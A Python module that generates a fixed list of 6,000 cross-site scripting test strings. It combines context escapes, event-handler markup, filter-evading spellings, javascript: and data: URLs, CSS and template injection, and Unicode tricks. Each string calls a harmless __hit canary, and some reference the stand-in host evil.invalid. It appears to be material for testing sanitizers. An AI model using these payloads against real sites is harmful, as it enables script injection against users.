"""Six thousand strings that would run a script wherever text is taken for something else.

They come from a grammar: ways out of a context × markup that runs something × ways to write it,
and beside those: addresses, style rules, templates, tricks of Unicode. Each calls `__hit(NUMBER)`.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from re import sub

COUNT = 6000
#: Nothing may ever be asked for here.
FOREIGN = "//evil.invalid/"

_WAYS_OUT = (
    "", '">', "'>", '" ', "' ", "`>", "-->", "]]>", "</title>", "</textarea>", "</style>",
    "</script>", "</template>", "</noscript>", "</select>", "</svg></math>",
)  # fmt: skip
_MARKUP = (
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<svg><script>CALL</script></svg>",
    "<script>CALL</script>",
    "<script src='data:text/javascript,CALL'></script>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    "<iframe src='javascript:parent.CALL'></iframe>",
    "<details open ontoggle=CALL>x</details>",
    "<input autofocus onfocus=CALL>",
    "<p tabindex=0 autofocus onfocus=CALL>x</p>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<video poster=x src=x onerror=CALL></video>",
    "<style onload=CALL></style>",
    "<link rel=stylesheet href='data:text/css,' onload=CALL>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s></svg>",
    "<svg><set onbegin=CALL attributeName=x to=y dur=1s></svg>",
    "<svg><image href=x onerror=CALL></svg>",
    "<picture><source srcset=y><img src=x onerror=CALL></picture>",
    "<object data='data:text/html,<script>parent.CALL</script>' onload=CALL></object>",
    "<a href='javascript:CALL'>x</a>",
    "<form action='javascript:CALL'><button>x</button></form>",
    "<math><mtext><img src=x onerror=CALL></mtext></math>",
    "<template><img src=x></template><img src=x onerror=CALL>",
    "<x-y style='animation:a 1s' onanimationstart=CALL></x-y><style>@keyframes a{}</style>",
)
_ADDRESSES = (
    "javascript:CALL", "JaVaScRiPt:CALL", "java\tscript:CALL", "java\nscript:CALL",
    "javascript\t:CALL", "\x01javascript:CALL", "\u00a0javascript:CALL", "javascript:/**/CALL",
    "javascript://%0aCALL", "javascript:%0aCALL", "javascript:void(CALL)", "javascript&colon;CALL",
    "&#106;avascript:CALL", "javascript:'</script>',CALL", "vbscript:CALL",
    "data:text/html,<script>parent.CALL</script>", "data:text/javascript,CALL",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "blob:CALL", f"{FOREIGN}a.js", "\\\\evil.invalid\\a.js", "/\\evil.invalid/a.js",
    "https:evil.invalid/CALL", "view-source:javascript:CALL", "feed:javascript:CALL",
)  # fmt: skip
_STYLES = (
    f"red;background:url({FOREIGN}css)", f"url({FOREIGN}css)",
    f"#fff}}*{{background:url({FOREIGN}css)}}",
    f"@import '{FOREIGN}css';", f"red;}} @import url({FOREIGN}css);", "expression(CALL)",
    "url(javascript:CALL)", "url('javascript:CALL')", "red;-moz-binding:url(data:,CALL)",
    "\\3c img src=x onerror=CALL\\3e", "red/*", "*/}:host{display:none}/*", "red !important",
    f"x;behavior:url({FOREIGN}htc)", f"var(--a,url({FOREIGN}css))", f"image-set('{FOREIGN}css' 1x)",
    f"Arial,url({FOREIGN}font)", f"a';}}@font-face{{font-family:a;src:url({FOREIGN}font)}}*{{x:'",
    "calc(1px)}</style><img src=x onerror=CALL>", f"cross-fade(url({FOREIGN}css),red)",
)  # fmt: skip
_TEMPLATES = (
    "{{constructor.constructor('CALL')()}}", "${CALL}", "#{CALL}", "<%= CALL %>", "{CALL}",
    "{%CALL%}", "[[CALL]]", "{{CALL}}", "$&$`$'<img src=x onerror=CALL>", "{name}{amount}{link}",
    "`${CALL}`", "'+CALL+'", '"+CALL+"', "\\');CALL;//", '\\";CALL;//', "');CALL;('", '");CALL;("',
    "};CALL;{", "CALL", "*/CALL;/*", "\u2028CALL\u2029", "__proto__", "constructor", "toString",
)  # fmt: skip
_TRICKS = (
    "\u202e<img src=x onerror=CALL>", "\ufeff<svg onload=CALL>", "＜img src=x onerror=CALL＞",
    "\ufe64script\ufe65CALL\ufe64/script\ufe65", "\u200d<script>CALL</script>\u200d",
    "<\u017fcript>CALL</\u017fcript>", "<img\u2029src=x\u2028onerror=CALL>",
    "\x00<img src=x onerror=CALL>", "<im\x00g src=x onerror=CALL>",
    "+ADw-script+AD4-CALL+ADw-/script+AD4-", "\x1b(J<svg onload=CALL>",
    "\x0b<img src=x onerror=CALL>", "\u0130<img src=x onerror=CALL>", "\U0001f3f4<svg onload=CALL>",
)  # fmt: skip


def _ways_to_write(markup: str) -> Iterator[str]:
    """The same markup in the spellings that careless filters overlook."""
    yield markup
    yield sub(r"</?[a-z]+", lambda tag: tag[0].upper(), markup)
    yield markup.replace(" ", "/", 1)
    yield markup.replace(" ", "\n", 1)
    yield markup.replace(" ", "\x0c", 1)
    yield markup.replace("CALL", "window['__hi'+'t'](NUMBER)")
    yield markup.replace("CALL", "\\u005f\\u005fhit(NUMBER)")
    yield markup.replace("CALL", "&#95;&#95;hit(NUMBER)")
    yield markup.replace("=CALL", '="CALL"')
    yield markup.replace("=CALL", " = CALL//")
    yield f"<{markup}"
    yield f"{markup}<!--"
    yield markup.replace("<", "&lt;")
    yield markup.replace("<", "%3C").replace(">", "%3E")
    yield f"<b>Ende</b>{markup[:-1]} "


def strings(count: int = COUNT) -> list[str]:
    """The first `count` of a fixed order in which every kind comes early and often."""
    grammar = [
        way_out + written
        for markup, way_out in product(_MARKUP, _WAYS_OUT)
        for written in _ways_to_write(markup)
    ]
    paddings = ("{}", " {}", "{} ", "\t{}", '"{}', "{}#", "{}?a=b", "x {}")
    plain = [*_ADDRESSES, *_STYLES, *_TEMPLATES, *_TRICKS]
    others = [
        padding.format(one) if "{" not in one else one for one in plain for padding in paddings
    ]
    unique = list(dict.fromkeys([*_mixed(list(dict.fromkeys(others)), grammar)]))[:count]
    if len(unique) < count:
        raise ValueError(f"the grammar makes only {len(unique)} strings")
    return [
        one.replace("CALL", "__hit(NUMBER)").replace("NUMBER", str(number))
        for number, one in enumerate(unique)
    ]


def _mixed(few: list[str], many: list[str]) -> Iterator[str]:
    """All of the few, spread evenly, and of the many every so often one, then the rest."""
    stride = 7919  # A prime that does not divide their number: neighbours are of different kinds.
    scattered = [many[index * stride % len(many)] for index in range(len(many))]
    every = max(2, COUNT // len(few))
    rest = iter(scattered)
    for one in few:
        yield one
        for _ in range(every - 1):
            yield next(rest)
    yield from rest
